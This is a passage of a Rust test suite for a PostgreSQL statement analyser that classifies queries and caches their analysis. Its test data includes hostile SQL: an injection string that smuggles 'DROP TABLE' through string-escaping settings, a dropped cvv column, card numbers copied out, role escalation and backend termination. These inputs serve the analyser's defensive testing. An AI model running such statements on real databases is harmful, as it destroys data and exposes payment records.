    assert!(matches!(e, Err(AnalysisError::Parse { .. })), "{e:?}");
}

#[test]
fn deep_nesting_fails_cleanly() {
    let sql = format!("SELECT 1{}", "+1".repeat(4999));
    match analyze(&sql, &ctx()) {
        Ok(v) => assert_eq!(v.len(), 1),
        Err(e) => assert!(
            matches!(e, AnalysisError::TooComplex | AnalysisError::Parse { .. }),
            "{e:?}"
        ),
    }
    let sql = format!("SELECT 1{}", "+1".repeat(99_999));
    assert!(analyze(&sql, &ctx()).is_err());
    let sql = format!("SELECT {}1{}", "(".repeat(20_000), ")".repeat(20_000));
    assert!(analyze(&sql, &ctx()).is_err());
    let sql = format!("SELECT {}1{}", "(SELECT ".repeat(5_000), ")".repeat(5_000));
    assert!(analyze(&sql, &ctx()).is_err());
    // Moderately deep trees that PostgreSQL accepts are analysed.
    let sql = format!("SELECT 1{}", "+1".repeat(500));
    assert_eq!(analyze(&sql, &ctx()).map(|v| v.len()), Ok(1));
    let sql = format!(
        "SELECT {}card_number FROM payments{}",
        "(SELECT ".repeat(100),
        ")".repeat(100)
    );
    let v = analyze(&sql, &ctx()).unwrap_or_default();
    assert!(v.first().is_some_and(|i| i.columns_read.contains(&col(
        "public",
        "payments",
        "card_number"
    ))));
}

/// A tree deeper than libpg_query ever produces, built by hand: the walker's own bound turns
/// it into `TooComplex` (no stack overflow), and a tree just under the bound is walked.
#[test]
fn walker_depth_bound_holds_on_hand_built_trees() {
    use pg_query::protobuf as pb;
    use pg_query::protobuf::node::Node as N;

    fn nested(depth: usize) -> pb::Node {
        let mut node = pb::Node {
            node: Some(N::ColumnRef(pb::ColumnRef {
                fields: vec![pb::Node {
                    node: Some(N::String(pb::String {
                        sval: "card_number".into(),
                    })),
                }],
                location: 0,
            })),
        };
        for _ in 0..depth {
            node = pb::Node {
                node: Some(N::AExpr(Box::new(pb::AExpr {
                    kind: pb::AExprKind::AexprOp.into(),
                    name: vec![pb::Node {
                        node: Some(N::String(pb::String { sval: "+".into() })),
                    }],
                    lexpr: Some(Box::new(node)),
                    rexpr: None,
                    location: 0,
                    rexpr_list_start: 0,
                    rexpr_list_end: 0,
                }))),
            };
        }
        node
    }

    fn run(depth: usize) -> Result<StatementInfo, AnalysisError> {
        crate::pool::run(move || {
            let expr = nested(depth);
            let select = pb::SelectStmt {
                target_list: vec![pb::Node {
                    node: Some(N::ResTarget(Box::new(pb::ResTarget {
                        val: Some(Box::new(expr)),
                        ..Default::default()
                    }))),
                }],
                ..Default::default()
            };
            let result = crate::analyze::analyze_statement(
                pg_query::NodeRef::SelectStmt(&select),
                Some("public"),
            );
            // Free the deep tree here, on the big stack, iteratively enough for prost's Drop.
            drop(select);
            result
        })
    }

    assert_eq!(run(200_000), Err(AnalysisError::TooComplex));
    let ok = run(3_900);
    assert!(ok.is_ok_and(|i| i.columns_read.contains(&ColumnRef {
        table: None,
        column: "card_number".into()
    })));
}

#[test]
fn analysis_works_from_many_threads() {
    let handles: Vec<_> = (0..8)
        .map(|n| {
            std::thread::spawn(move || {
                for k in 0..50 {
                    let sql = format!("SELECT c{n}_{k} FROM t{n}");
                    let v = analyze(&sql, &AnalysisContext::default()).unwrap_or_default();
                    assert_eq!(v.len(), 1);
                }
            })
        })
        .collect();
    for h in handles {
        assert!(h.join().is_ok());
    }
}

// --- cache ---------------------------------------------------------------------------------------

#[test]
fn cache_hits_and_is_keyed_by_context() {
    let cache = AnalysisCache::new(1 << 20);
    let a = cache.analyze("SELECT 1", &ctx());
    let b = cache.clone().analyze("SELECT 1", &ctx());
    assert!(matches!((&a, &b), (Ok(x), Ok(y)) if std::sync::Arc::ptr_eq(x, y)));
    assert_eq!((cache.hits(), cache.misses()), (1, 1));

    // Same text, other standard_conforming_strings: another entry, another meaning.
    let sql = r"SELECT 'a\'; DROP TABLE x; --'";
    let on = cache.analyze(sql, &ctx()).map(|v| v.len());
    let off_ctx = AnalysisContext {
        standard_conforming_strings: false,
        ..ctx()
    };
    let off = cache.analyze(sql, &off_ctx).map(|v| v.len());
    assert_eq!((on, off), (Ok(2), Ok(1)));
    assert_eq!(cache.misses(), 3);

    // Errors are cached as errors.
    assert!(cache.analyze("SELEC", &ctx()).is_err());
    assert!(cache.analyze("SELEC", &ctx()).is_err());
    assert_eq!(cache.hits(), 2);
}

#[test]
fn cache_shares_an_analysis_between_texts_of_one_shape() {
    let cache = AnalysisCache::new(1 << 20);
    let q = |aid: u32| format!("SELECT abalance FROM pgbench_accounts WHERE aid = {aid};");
    let first = cache.analyze(&q(1), &ctx());
    for aid in 2..50 {
        let again = cache.analyze(&q(aid), &ctx());
        assert!(matches!((&first, &again), (Ok(x), Ok(y)) if std::sync::Arc::ptr_eq(x, y)));
    }
    assert_eq!((cache.hits(), cache.misses()), (48, 1));
    assert_eq!(cache.stats().entries, 1, "one entry for the shape");
    // Strings too, and DML.
    let u = |v: &str| format!("UPDATE accounts SET note = '{v}' WHERE id = 7");
    let a = cache.analyze(&u("x"), &ctx()).unwrap();
    let b = cache.analyze(&u("it''s"), &ctx()).unwrap();
    assert!(std::sync::Arc::ptr_eq(&a, &b));
}

/// Where the analysis reads a literal's value, texts of one shape never share it: each gets
/// its own analysis (and an identical text still hits its exact entry).
#[test]
fn cache_never_shares_what_depends_on_a_literal() {
    let cache = AnalysisCache::new(1 << 20);
    let fresh = |sql: &str| analyze(sql, &ctx()).unwrap();
    for (a, b) in [
        (
            "SELECT set_config('application_name', 'x', false)",
            "SELECT set_config('role', 'admin', false)",
        ),
        (
            "SELECT * FROM cards LIMIT 5",
            "SELECT * FROM cards LIMIT 500000",
        ),
        (
            "SELECT * FROM cards FETCH FIRST 5 ROWS ONLY",
            "SELECT * FROM cards FETCH FIRST 9 ROWS ONLY",
        ),
        ("SET work_mem = '64MB'", "SET role = 'admin'"),
        ("SET statement_timeout = 5", "SET statement_timeout = 0"),
        (
            "COPY cards TO STDOUT WITH (FORMAT 'csv', HEADER 'true')",
            "COPY cards TO STDOUT WITH (FORMAT 'text', HEADER 'false')",
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT count(*) FROM cards'",
        ),
        (
            "EXPLAIN (ANALYZE 'false') DELETE FROM cards WHERE id = 1",
            "EXPLAIN (ANALYZE 'true') DELETE FROM cards WHERE id = 1",
        ),
    ] {
        let ca = cache.analyze(a, &ctx()).unwrap();
        let cb = cache.analyze(b, &ctx()).unwrap();
        assert_eq!(*ca, fresh(a), "{a}");
        assert_eq!(*cb, fresh(b), "{b}");
        let hits = cache.hits();
        assert_eq!(*cache.analyze(b, &ctx()).unwrap(), fresh(b));
        assert_eq!(cache.hits(), hits + 1, "an identical text still hits: {b}");
    }
    // A parse error is never shared either.
    assert!(cache.analyze("SELECT 1 FROM WHERE 2", &ctx()).is_err());
    assert!(cache.analyze("SELECT 1 FROM t WHERE 2", &ctx()).is_ok());
}

#[test]
fn cache_is_bounded_by_bytes() {
    let path_bytes: usize = ctx().search_path.iter().map(String::len).sum();
    let cost = |sql: &str| sql.len() + path_bytes;
    let big = format!("SELECT a /* {} */", "x".repeat(1000));
    let max = 3 * cost(&big) + 10;
    let cache = AnalysisCache::new(max);

    // Many small entries: bounded by bytes, not by count.
    for n in 0..500 {
        assert!(cache.analyze(&format!("SELECT c{n}"), &ctx()).is_ok());
        assert!(cache.stats().bytes <= max);
    }
    let s = cache.stats();
    assert!(s.entries > 3, "{s:?}");
    assert!(s.bytes <= max, "{s:?}");

    // Big entries evict the small ones; only three of them fit.
    for n in 0..5 {
        let sql = format!("{big} AS c{n}");
        assert!(cache.analyze(&sql, &ctx()).is_ok());
    }
    let s = cache.stats();
    assert!(s.bytes <= max, "{s:?}");
    assert!(s.entries <= 3, "{s:?}");

    // Least recently used goes first: the newest big entry is still there.
    let hits = cache.hits();
    assert!(cache.analyze(&format!("{big} AS c4"), &ctx()).is_ok());
    assert_eq!(cache.hits(), hits + 1);
    // The oldest is gone.
    assert!(cache.analyze(&format!("{big} AS c0"), &ctx()).is_ok());
    assert_eq!(cache.hits(), hits + 1);

    // A text larger than the whole cache is analysed but not stored.
    let huge = format!("SELECT b /* {} */", "y".repeat(max));
    assert!(cache.analyze(&huge, &ctx()).is_ok());
    assert!(cache.stats().bytes <= max);
    assert!(cache.analyze(&huge, &ctx()).is_ok());
    assert_eq!(cache.hits(), hits + 1);

    let zero = AnalysisCache::new(0);
    assert!(zero.analyze("SELECT 1", &ctx()).is_ok());
    assert!(zero.analyze("SELECT 1", &ctx()).is_ok());
    assert_eq!((zero.hits(), zero.stats().entries), (0, 0));
}

#[test]
fn set_config_calls_are_recorded_with_constant_arguments() {
    let s = one("SELECT pg_catalog.set_config('search_path', '', false)");
    assert_eq!(
        s.config_calls,
        vec![(Some("search_path".to_owned()), Some(String::new()))]
    );
    let s = one("SELECT set_config('ROLE', 'postgres', false)");
    assert_eq!(
        s.config_calls,
        vec![(Some("role".to_owned()), Some("postgres".to_owned()))]
    );
    let s = one("SELECT set_config(name, 'off', false) FROM pg_settings");
    assert_eq!(s.config_calls, vec![(None, Some("off".to_owned()))]);
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

    /// Whatever literals a statement carries, the analysis the cache answers with is the one a
    /// fresh analysis of that very text gives, though texts of one shape share entries.
    #[test]
    fn cached_analysis_equals_fresh_analysis(
        template in 0usize..12,
        n in proptest::collection::vec(0u64..100_000_000_000, 3),
        s in proptest::collection::vec("[a-z' %_0-9]{0,12}", 3),
    ) {
        let lit = |i: usize| format!("'{}'", s[i].replace('\'', "''"));
        let sql = match template {
            0 => format!("SELECT abalance FROM pgbench_accounts WHERE aid = {}", n[0]),
            1 => format!("SELECT * FROM cards WHERE id IN ({}, {}) LIMIT {}", n[0], n[1], n[2]),
            2 => format!("SELECT set_config({}, {}, false)", lit(0), lit(1)),
            3 => format!("UPDATE cards SET note = {} WHERE id = {}", lit(0), n[0]),
            4 => format!("INSERT INTO cards (id, note) VALUES ({}, {})", n[0], lit(1)),
            5 => format!("SELECT substr(card_number, {}, {}) FROM cards", n[0] % 20, n[1] % 20),
            6 => format!("SET application_name = {}", lit(0)),
            7 => format!("SELECT {}::numeric(10, 2), {}.5e-3 AS x", n[0], n[1]),
            8 => format!("DELETE FROM cards WHERE note LIKE {} RETURNING card_number", lit(2)),
            9 => format!("SELECT * FROM cards FETCH FIRST {} ROWS ONLY", n[0] % 1000),
            10 => format!("COPY (SELECT card_number FROM cards WHERE id > {}) TO STDOUT", n[0]),
            _ => format!("SELECT * FROM cards ORDER BY {} OFFSET {}", n[0] % 3 + 1, n[1]),
        };
        let cache = cache_for_props();
        let cached = cache.analyze(&sql, &ctx());
        let fresh = analyze(&sql, &ctx());
        match (cached, fresh) {
            (Ok(c), Ok(f)) => proptest::prop_assert_eq!(&*c, &f, "{}", sql),
            (Err(c), Err(f)) => proptest::prop_assert_eq!(c.to_string(), f.to_string()),
            (c, f) => proptest::prop_assert!(false, "{sql}: cached {c:?} fresh {f:?}"),
        }
    }
}

/// One cache for all cases of the property, so they share shapes.
fn cache_for_props() -> &'static AnalysisCache {
    static CACHE: std::sync::OnceLock<AnalysisCache> = std::sync::OnceLock::new();
    CACHE.get_or_init(|| AnalysisCache::new(1 << 20))
}

#[test]
fn destructive_subcommands_count_as_their_kind() {
    for sql in [
        "ALTER TABLE cards DROP COLUMN cvv",
        "ALTER TABLE cards DROP CONSTRAINT cards_pkey",
        "ALTER TABLE cards ALTER COLUMN note DROP DEFAULT",
        "ALTER TABLE cards ALTER COLUMN note DROP NOT NULL",
        "ALTER TABLE cards ALTER COLUMN id DROP IDENTITY IF EXISTS",
        "ALTER TABLE cards ALTER COLUMN note TYPE int USING 0",
        "ALTER TABLE IF EXISTS ONLY cards ADD COLUMN x int, DROP COLUMN note",
        "ALTER DOMAIN d DROP CONSTRAINT c",
        "ALTER DOMAIN d DROP DEFAULT",
        "ALTER TYPE ty DROP ATTRIBUTE a",
        "ALTER FOREIGN TABLE ft DROP COLUMN a",
    ] {
        let s = one(sql);
        assert!(s.kinds.contains("drop"), "{sql}: {:?}", s.kinds);
        assert!(s.kinds.contains("ddl"), "{sql}");
    }
    let s = one("ALTER TABLE cards ALTER COLUMN note TYPE int USING 0");
    assert!(s.kinds.contains("alter_column_type"));
    for sql in [
        "ALTER TABLE cards ADD COLUMN x int",
        "ALTER TABLE cards ALTER COLUMN note SET DEFAULT 'x'",
        "ALTER DOMAIN d SET DEFAULT 1",
    ] {
        assert!(!one(sql).kinds.contains("drop"), "{sql}");
    }
}

#[test]
fn function_forms_of_data_kinds() {
    let s = one("SELECT lo_unlink(oid) FROM pg_largeobject_metadata");
    assert!(
        s.kinds.contains("delete") && s.kinds.contains("dml"),
        "{:?}",
        s.kinds
    );
    assert!(s.data_modifying);
    let s = one("SELECT pg_catalog.lo_truncate(lo_open(1, 131072), 0)");
    assert!(s.kinds.contains("truncate"));
    let s = one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity");
    assert!(s.kinds.contains("signal_backend") && s.kinds.contains("read_activity"));
    assert!(
        one("SELECT pg_cancel_backend(1)")
            .kinds
            .contains("signal_backend")
    );
    assert!(
        one("SELECT query FROM pg_catalog.pg_stat_activity")
            .kinds
            .contains("read_activity")
    );
    assert!(
        one("SELECT * FROM public.pg_stat_statements")
            .kinds
            .contains("read_activity")
    );
    assert!(
        one("SELECT * FROM pg_stat_get_activity(NULL)")
            .kinds
            .contains("read_activity")
    );
    assert!(
        !one("SELECT * FROM public.pg_stat_activity_x")
            .kinds
            .contains("read_activity")
    );
}

#[test]
fn every_privilege_change_is_grant() {
    for sql in [
        "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC",
        "REVOKE SELECT ON cards FROM bob",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC",
        "GRANT admin TO bob",
        "REVOKE admin FROM bob",
        "ALTER TABLE cards OWNER TO bob",
        "ALTER SCHEMA public OWNER TO bob",
    ] {
        assert!(one(sql).kinds.contains("grant"), "{sql}");
    }
}

#[test]
fn roles_changed_and_persistent_settings() {
    let roles = |sql: &str| one(sql).roles_changed.into_iter().collect::<Vec<_>>();
    assert_eq!(
        roles("ALTER ROLE CURRENT_USER PASSWORD 'x'"),
        ["CURRENT_USER"]
    );
    assert_eq!(
        roles("ALTER USER session_user VALID UNTIL 'epoch'"),
        ["SESSION_USER"]
    );
    assert_eq!(roles("ALTER ROLE gate RENAME TO gate2"), ["gate"]);
    assert_eq!(roles("ALTER ROLE \"Gate\" NOLOGIN"), ["Gate"]);
    assert_eq!(roles("GRANT pg_read_server_files TO gate"), ["gate"]);
    assert_eq!(roles("REVOKE admins FROM current_role"), ["CURRENT_ROLE"]);
    assert_eq!(
        roles("ALTER GROUP admins DROP USER gate"),
        ["admins", "gate"]
    );
    assert_eq!(roles("ALTER ROLE ALL SET work_mem = '1MB'"), ["ALL"]);
    assert_eq!(roles("DROP ROLE IF EXISTS gate, other"), ["gate", "other"]);
    assert_eq!(roles("CREATE ROLE newr ROLE gate"), ["gate"]);
    assert!(roles("SELECT 1").is_empty());
    let s = one("ALTER ROLE bob SET client_encoding = 'SJIS'");
    assert_eq!(
        s.persistent_settings,
        vec![("client_encoding".to_owned(), Some("SJIS".to_owned()))]
    );
    let s = one("ALTER DATABASE d SET standard_conforming_strings TO off");
    assert_eq!(
        s.persistent_settings,
        vec![(
            "standard_conforming_strings".to_owned(),
            Some("off".to_owned())
        )]
    );
    assert_eq!(
        one("ALTER DATABASE d SET standard_conforming_strings TO off").set_setting,
        None
    );
    let s = one("ALTER SYSTEM RESET backslash_quote");
    assert_eq!(
        s.persistent_settings,
        vec![("backslash_quote".to_owned(), None)]
    );
}

#[test]
fn set_config_values_through_casts() {
    let s = one("SELECT set_config('standard_conforming_strings', 'off'::text, false)");
    assert_eq!(
        s.config_calls,
        vec![(
            Some("standard_conforming_strings".to_owned()),
            Some("off".to_owned())
        )]
    );
    let s =
        one("SELECT set_config(CAST('client_encoding' AS varchar), CAST('sjis' AS text), false)");
    assert_eq!(
        s.config_calls,
        vec![(Some("client_encoding".to_owned()), Some("sjis".to_owned()))]
    );
    let s = one("SELECT set_config('client_encoding', 'sj' || 'is', false)");
    assert_eq!(
        s.config_calls,
        vec![(Some("client_encoding".to_owned()), None)]
    );
}
